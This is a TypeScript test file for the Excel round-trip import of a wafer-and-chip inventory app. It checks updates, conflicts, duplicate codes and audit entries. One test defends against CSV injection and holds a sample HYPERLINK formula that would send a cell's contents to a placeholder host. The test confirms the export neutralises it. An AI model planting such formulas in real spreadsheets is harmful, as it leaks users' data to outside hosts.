import { describe, it, expect, beforeAll, afterAll } from 'vitest'
import ExcelJS from 'exceljs'
import { sql } from 'drizzle-orm'
import type TestAgent from 'supertest/lib/agent'
import { disk, makeChip } from '../inventory-helpers'
import { runExport, startImportTestApp, toBuffer, upload, workbookOf } from './excel-helpers'
import type { ImportReport } from '../../../shared/excel'

/**
 * Export → import round trip: rows whose Code names a record update it (or leave it unchanged),
 * a record changed after the export is a conflict, the same code twice is an error. The test DB is
 * shared with other test files, so each test keeps only the rows of the records it made.
 */
let t: Awaited<ReturnType<typeof startImportTestApp>>['t']
let lead: TestAgent,
  fab: TestAgent,
  leadId = 0
let counts: Awaited<ReturnType<typeof startImportTestApp>>['counts']
beforeAll(async () => {
  ;({ t, lead, fab, leadId, counts } = await startImportTestApp())
})
afterAll(async () => {
  await t.stop()
})

/** A wafer with two chips and three arrays (two shapes), made for one test. */
async function inventory() {
  const { wafer, chip } = await makeChip(
    fab,
    { rotationDeg: 30, notes: 'round trip' },
    { receivedOn: '2024-05-02', notes: 'edge chipped' },
  )
  const second = (await fab.post(`/api/wafers/${wafer.id}/dice`).send({ count: 1, widthMm: 4, heightMm: 6 })).body
    .chips[0]
  const a1 = (
    await fab.post(`/api/chips/${chip.id}/arrays`).send({ ...disk(chip.id, 'A1'), azimuthDeg: 15, count: 400 })
  ).body
  const b2 = (
    await fab.post(`/api/chips/${chip.id}/arrays`).send({
      chipId: chip.id,
      position: 'B2',
      shape: 'dimer',
      dimensionsNm: { diameterNm: 200, gapNm: 40 },
      lattice: 'hexagonal',
      periodXNm: 700,
    })
  ).body
  const c3 = (await fab.post(`/api/chips/${second.id}/arrays`).send(disk(second.id, 'C3'))).body
  for (const a of [a1, b2, c3]) expect(a.code).toMatch(/^A-/)
  return { wafer, chips: [chip, second], arrays: [a1, b2, c3] }
}

/** The export's Wafers, Chips and Arrays rows of one wafer (values only), as a workbook. */
function rowsOfWafer(
  book: ExcelJS.Workbook,
  waferCode: string,
  edit: (sheet: string, header: string, v: ExcelJS.CellValue, code: string) => ExcelJS.CellValue = (_s, _h, v) => v,
) {
  const out = new ExcelJS.Workbook()
  const number = waferCode.slice(2)
  const mine: Record<string, (code: string) => boolean> = {
    Wafers: (c) => c === waferCode,
    Chips: (c) => c.startsWith(`C-${number}-`),
    Arrays: (c) => c.startsWith(`A-${number}-`),
  }
  for (const name of ['Wafers', 'Chips', 'Arrays']) {
    const from = book.getWorksheet(name)!
    const ws = out.addWorksheet(name)
    const headers = (from.getRow(1).values as ExcelJS.CellValue[]).slice(1).map(String)
    ws.addRow(headers)
    from.eachRow((row, n) => {
      const code = String(row.getCell(1).value)
      if (n > 1 && mine[name](code)) ws.addRow(headers.map((h, i) => edit(name, h, row.getCell(i + 1).value, code)))
    })
  }
  return out
}
const cellOf = (book: ExcelJS.Workbook, sheet: string, code: string, header: string) => {
  const ws = book.getWorksheet(sheet)!
  const col = (ws.getRow(1).values as unknown[]).indexOf(header)
  let value: ExcelJS.CellValue = null
  ws.eachRow((row) => {
    if (row.getCell(1).value === code) value = row.getCell(col).value
  })
  return value
}

describe('Excel round trip', () => {
  it('an exported workbook imported unchanged: every row unchanged, 0 to create, 0 to update, and the import has nothing to do', async () => {
    const { wafer, arrays } = await inventory()
    const { book } = await runExport(lead)
    const aHeader = (book.getWorksheet('Arrays')!.getRow(1).values as unknown[]).slice(1)
    // dimensions are numeric columns with units, not name=value text
    expect(aHeader).toEqual(expect.arrayContaining(['Diameter (nm)', 'Gap (nm)', 'Version']))
    expect(aHeader).not.toContain('Dimensions (nm)')
    expect(cellOf(book, 'Arrays', arrays[1].code, 'Gap (nm)')).toBe(40)
    const bytes = await toBuffer(rowsOfWafer(book, wafer.code))
    const dry = (await upload(lead, bytes, true)).body as ImportReport
    expect(dry.errorCount, JSON.stringify(dry.rows.filter((r) => r.status !== 'unchanged'))).toBe(0)
    expect(dry.summary).toEqual({ create: 0, update: 0, unchanged: 6, conflict: 0, error: 0 })
    expect(dry.sheets.map((s) => s.summary.unchanged)).toEqual([1, 2, 3])
    expect(dry.rows.every((r) => r.status === 'unchanged' && r.changes.length === 0)).toBe(true)
    const before = await counts()
    const real = await upload(lead, bytes, false)
    expect(real.status).toBe(422)
    expect(real.body.fileMessages.map((m: { message: string }) => m.message).join(' ')).toMatch(/Nothing to import/)
    expect(await counts()).toEqual(before)
  })

  it('a changed cell is an update (before → after in the dry run); the import writes exactly that, with the reason in the audit trail', async () => {
    const { wafer, chips, arrays } = await inventory()
    const { book } = await runExport(lead)
    const edited = rowsOfWafer(book, wafer.code, (sheet, h, v, code) => {
      if (sheet === 'Wafers' && h === 'Notes') return 'edge chipped, cleaned'
      if (sheet === 'Chips' && code === chips[1].code && h === 'Width (mm)') return 4.5
      if (sheet === 'Arrays' && code === arrays[0].code && h === 'Diameter (nm)') return 480
      return v
    })
    const bytes = await toBuffer(edited)
    const dry = (await upload(lead, bytes, true)).body as ImportReport
    expect(dry.summary).toEqual({ create: 0, update: 3, unchanged: 3, conflict: 0, error: 0 })
    const row = (code: string) => dry.rows.find((r) => r.code === code)!
    expect(row(wafer.code)).toMatchObject({
      status: 'update',
      changes: [{ column: 'Notes', before: 'edge chipped', after: 'edge chipped, cleaned' }],
    })
    expect(row(chips[1].code).changes).toEqual([{ column: 'Width (mm)', before: 4, after: 4.5 }])
    expect(row(arrays[0].code).changes).toEqual([{ column: 'Diameter (nm)', before: 450, after: 480 }])
    const before = await counts()
    const res = await upload(lead, bytes, false)
      .query({ plan: dry.planHash })
      .field('reason', 'cleaned and re-measured')
    expect(res.status, JSON.stringify(res.body)).toBe(201)
    expect(res.body.updated).toEqual({ wafers: 1, chips: 1, arrays: 1 })
    const after = await counts()
    expect([after.w - before.w, after.c - before.c, after.a - before.a, after.l - before.l]).toEqual([0, 0, 0, 3])
    expect((await lead.get(`/api/wafers/${wafer.id}`)).body.notes).toBe('edge chipped, cleaned')
    expect((await lead.get(`/api/chips/${chips[1].id}`)).body.widthMm).toBe(4.5)
    const arr = (await lead.get(`/api/arrays/${arrays[0].id}`)).body
    expect(arr.dimensionsNm).toEqual({ diameterNm: 480 })
    expect(arr.isStale).toBe(false)
    const [audit] = (await t.db
      .execute(sql`SELECT entity, action, changes, reason FROM audit_log WHERE user_id = ${leadId} AND action = 'update'
      AND ((entity = 'wafer' AND entity_id = ${wafer.id}) OR (entity = 'chip' AND entity_id = ${chips[1].id}) OR (entity = 'array' AND entity_id = ${arrays[0].id})) ORDER BY entity`)) as unknown as [
      { entity: string; action: string; changes: unknown; reason: string }[],
    ]
    expect(audit.map((a) => a.entity)).toEqual(['array', 'chip', 'wafer'])
    for (const a of audit) expect(a.reason).toBe('Excel import: legacy.xlsx — cleaned and re-measured')
    const changes = (a: { changes: unknown }) => (typeof a.changes === 'string' ? JSON.parse(a.changes) : a.changes)
    expect(changes(audit[1])).toEqual({ widthMm: { from: 4, to: 4.5 } })
    // the same file again: its versions are now old, and its values are the records' values → unchanged
    const again = (await upload(lead, bytes, true)).body as ImportReport
    expect(again.summary).toMatchObject({ update: 0, conflict: 0, unchanged: 6 })
  })

  it('a record changed after the export is a conflict, side by side, and never overwritten — also when the row itself was not edited', async () => {
    const { wafer, chips } = await inventory()
    const { book } = await runExport(lead)
    const edited = toBuffer(
      rowsOfWafer(book, wafer.code, (sheet, h, v, code) =>
        sheet === 'Chips' && code === chips[0].code && h === 'Notes' ? 'from the sheet' : v,
      ),
    )
    const unedited = toBuffer(rowsOfWafer(book, wafer.code))
    // someone changes the wafer's lot and the chip's notes in Overtone after the export
    const w = (await lead.get(`/api/wafers/${wafer.id}`)).body
    const body = {
      materialId: w.material.id,
      cutNormal: w.cutNormal,
      flatDirection: w.flatDirection,
      diameterMm: w.diameterMm,
      thicknessUm: w.thicknessUm,
      supplier: w.supplier,
      receivedOn: w.receivedOn,
      status: w.status,
      notes: w.notes,
    }
    expect((await fab.patch(`/api/wafers/${wafer.id}`).send({ ...body, lot: 'LOT-RELABELLED' })).status).toBe(200)
    expect((await fab.patch(`/api/chips/${chips[0].id}`).send({ notes: 'from the page' })).status).toBe(200)
    const before = await counts()
    for (const bytes of [await edited, await unedited]) {
      const dry = (await upload(lead, bytes, true)).body as ImportReport
      const waferRow = dry.rows.find((r) => r.code === wafer.code)!
      expect(waferRow.status).toBe('conflict')
      expect(waferRow.changes).toEqual([{ column: 'Lot', before: 'LOT-RELABELLED', after: w.lot }])
      expect(waferRow.versions!.file).not.toBe(waferRow.versions!.current)
      expect(waferRow.messages.find((m) => m.column === 'Version')!.message).toMatch(
        /changed in Overtone .* after this file was exported/,
      )
      const chipRow = dry.rows.find((r) => r.code === chips[0].code)!
      expect(chipRow.status).toBe('conflict')
      expect(dry.summary.conflict).toBe(2)
      const real = await upload(lead, bytes, false)
      expect(real.status).toBe(422)
      expect(real.body.imported).toBe(false)
    }
    expect(await counts()).toEqual(before)
    expect((await lead.get(`/api/wafers/${wafer.id}`)).body.lot).toBe('LOT-RELABELLED')
    expect((await lead.get(`/api/chips/${chips[0].id}`)).body.notes).toBe('from the page')
  })

  it('the same code twice is an error; a code that names no record is an error; the import is refused when the plan changed since the dry run', async () => {
    const { wafer, chips } = await inventory()
    const header = ['Code', 'Wafer', 'Width (mm)', 'Height (mm)', 'Notes']
    const twice = await toBuffer(
      workbookOf({
        Chips: [
          header,
          [chips[0].code, wafer.code, 5, 5, 'a'],
          [chips[0].code, wafer.code, 5, 5, 'b'],
          ['C-9999-01', 'W-9999', 5, 5, null],
        ],
      }),
    )
    const dry = (await upload(lead, twice, true)).body as ImportReport
    expect(dry.rows[0].status).toBe('update')
    expect(dry.rows[0].messages.map((m) => m.message).join(' ')).toMatch(/No Version in the row/)
    expect(dry.rows[1]).toMatchObject({
      status: 'error',
      messages: [
        expect.objectContaining({
          column: 'Code',
          message: `Code ${chips[0].code} is used twice in the sheet (also row 2)`,
        }),
      ],
    })
    expect(dry.rows[2].messages[0]).toMatchObject({
      column: 'Code',
      message: expect.stringMatching(/No chip C-9999-01 in Overtone/),
    })
    expect(dry.summary).toMatchObject({ update: 1, error: 2 })

    const one = await toBuffer(workbookOf({ Chips: [header, [chips[0].code, wafer.code, 5, 5, 'one']] }))
    const other = await toBuffer(workbookOf({ Chips: [header, [chips[0].code, wafer.code, 5, 5, 'other']] }))
    const plan = ((await upload(lead, one, true)).body as ImportReport).planHash
    const before = await counts()
    const refused = await upload(lead, other, false).query({ plan })
    expect(refused.status).toBe(409)
    expect(refused.body.message).toMatch(/changed since the dry run/)
    expect(await counts()).toEqual(before)
    expect((await upload(lead, one, false).query({ plan })).status).toBe(201)
    expect((await lead.get(`/api/chips/${chips[0].id}`)).body.notes).toBe('one')
  })

  it('text that looks like a formula is exported as text no spreadsheet evaluates, also saved as CSV, and imports back unchanged', async () => {
    // OWASP "CSV Injection": cells beginning with =, +, - or @ are prefixed with a single quote.
    const notes = '=HYPERLINK("http://example.invalid/?x="&A1,"open")'
    const { wafer, chip } = await makeChip(
      fab,
      { notes: '-2+3' },
      { notes, lot: `+${Date.now()}`, supplier: '@SUM(1,2)' },
    )
    const { book } = await runExport(lead)
    for (const [sheet, code, header, text] of [
      ['Wafers', wafer.code, 'Notes', notes],
      ['Wafers', wafer.code, 'Lot', wafer.lot],
      ['Wafers', wafer.code, 'Supplier', '@SUM(1,2)'],
      ['Chips', chip.code, 'Notes', '-2+3'],
    ] as const) {
      const value = cellOf(book, sheet, code, header)
      expect(typeof value, `${sheet} ${header}`).toBe('string') // not { formula }
      expect(value).toBe(`'${text}`)
    }
    const mine = rowsOfWafer(book, wafer.code)
    const csv = (await mine.csv.writeBuffer({ sheetName: 'Wafers' })).toString()
    const fields = csv.split('\n')[1]
    // every field of the CSV row that holds one of these texts starts with the quote, never with the formula character
    expect(fields).toContain(`'+${wafer.lot.slice(1)}`)
    expect(fields).not.toMatch(/(^|,)"?[=+@-]/)
    const dry = (await upload(lead, await toBuffer(mine), true)).body as ImportReport
    expect(dry.summary, JSON.stringify(dry.rows.filter((r) => r.status !== 'unchanged'))).toMatchObject({
      unchanged: 2,
      update: 0,
      error: 0,
    })
  })

  it('a chip stays on its wafer and an array on its chip; retiring is not done by an import; a received date in the future is flagged; example rows show no errors', async () => {
    const { wafer, chips, arrays } = await inventory()
    const other = (await makeChip(fab)).wafer
    const bytes = await toBuffer(
      workbookOf({
        Wafers: [
          [
            'Code',
            'Material',
            'Cut normal',
            'Flat direction',
            'Diameter (mm)',
            'Thickness (µm)',
            'Lot',
            'Received on',
            'Status',
          ],
          ['EXAMPLE', 'no such material', 'x', 'y', 'z', -1, null, 'soon', 'lost'],
          [
            'W1',
            (await lead.get(`/api/wafers/${wafer.id}`)).body.material.name,
            '0 0 1',
            '1 -1 0',
            50.8,
            350,
            'L-1',
            '2999-01-01',
            'in_stock',
          ],
          [
            wafer.code,
            (await lead.get(`/api/wafers/${wafer.id}`)).body.material.name,
            '0 0 1',
            '1 -1 0',
            50.8,
            350,
            'x',
            null,
            'retired',
          ],
        ],
        Chips: [
          ['Code', 'Wafer', 'Width (mm)', 'Height (mm)'],
          [chips[0].code, other.code, 5, 5],
        ],
        Arrays: [
          ['Code', 'Chip', 'Position', 'Shape', 'Lattice', 'Diameter (nm)'],
          [arrays[0].code, chips[0].code, 'Z9', 'disk', 'square', 450],
        ],
      }),
    )
    const r = (await upload(lead, bytes, true)).body as ImportReport
    const at = (sheet: string, row: number) => r.rows.find((x) => x.sheet === sheet && x.row === row)!
    expect(at('Wafers', 2)).toMatchObject({
      status: 'skip',
      messages: [expect.objectContaining({ level: 'warning', message: expect.stringMatching(/Example row/) })],
    })
    expect(at('Wafers', 2).messages).toHaveLength(1)
    expect(at('Wafers', 3).messages).toEqual([
      expect.objectContaining({ column: 'Received on', message: '2999-01-01 is in the future' }),
    ])
    expect(at('Wafers', 4).messages.map((m) => m.column)).toContain('Status')
    expect(at('Chips', 2).messages[0]).toMatchObject({
      column: 'Wafer',
      message: expect.stringMatching(/a chip stays on its wafer/),
    })
    expect(at('Arrays', 2).messages[0]).toMatchObject({
      column: 'Position',
      message: expect.stringMatching(/position is part of the code/),
    })
  })
})
